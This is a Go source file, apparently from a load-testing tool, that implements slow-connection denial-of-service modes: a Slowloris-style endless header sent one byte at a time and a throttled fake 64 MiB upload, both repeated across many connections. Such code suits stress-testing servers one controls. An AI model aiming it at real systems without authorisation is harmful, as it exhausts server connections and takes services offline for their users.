package load

import (
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"
)

// dribble is how long a slow connection waits between two bytes.
const dribble = 300 * time.Millisecond

// uploadSize is how many bytes an unwanted upload announces.
const uploadSize = 64 << 20

// attack keeps connections busy with what nobody wants, until the span is over.
// What is ended by the server is begun anew. Requests counts the connections
// that were made.
func attack(j *Job) (Result, error) {
	if err := roomForFiles(j.Conns + 100); err != nil {
		return Result{}, err
	}
	over := time.Now().Add(j.Warm + j.Span)
	var made atomic.Int64
	var every sync.WaitGroup
	for range j.Conns {
		every.Go(func() {
			for time.Now().Before(over) {
				c, err := net.Dial("tcp", j.Addr)
				if err != nil {
					time.Sleep(dribble)
					continue
				}
				made.Add(1)
				c.SetDeadline(over)
				if j.Proto == Slow {
					crawl(j, c)
				} else {
					upload(j, c)
				}
				c.Close()
			}
		})
	}
	every.Wait()
	return Result{Requests: made.Load(), Seconds: (j.Warm + j.Span).Seconds()}, nil
}

// crawl sends a head that never ends, byte by byte.
func crawl(j *Job, c net.Conn) {
	_, err := fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: %s\r\nCookie: ", j.Path, j.Host)
	for err == nil {
		time.Sleep(dribble)
		_, err = c.Write([]byte{'x'})
	}
}

// upload sends a large body, so many bytes a second as Rate says.
func upload(j *Job, c net.Conn) {
	const boundary = "e3b0c44298fc1c149afbf4c8996fb924"
	fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: multipart/form-data; boundary=%s\r\nContent-Length: %d\r\n\r\n"+
		"--%s\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.pdf\"\r\nContent-Type: application/pdf\r\n\r\n", j.Path, j.Host, boundary, uploadSize, boundary)
	ended := make(chan struct{})
	go func() { io.Copy(io.Discard, c); close(ended) }()
	piece := make([]byte, 32<<10)
	pause := time.Duration(float64(len(piece)) / j.Rate * float64(time.Second))
	for sent := 0; sent < uploadSize; sent += len(piece) {
		if _, err := c.Write(piece); err != nil {
			break
		}
		select {
		case <-ended: // it said no, and closed
			return
		case <-time.After(pause):
		}
	}
	c.Close()
	<-ended
}
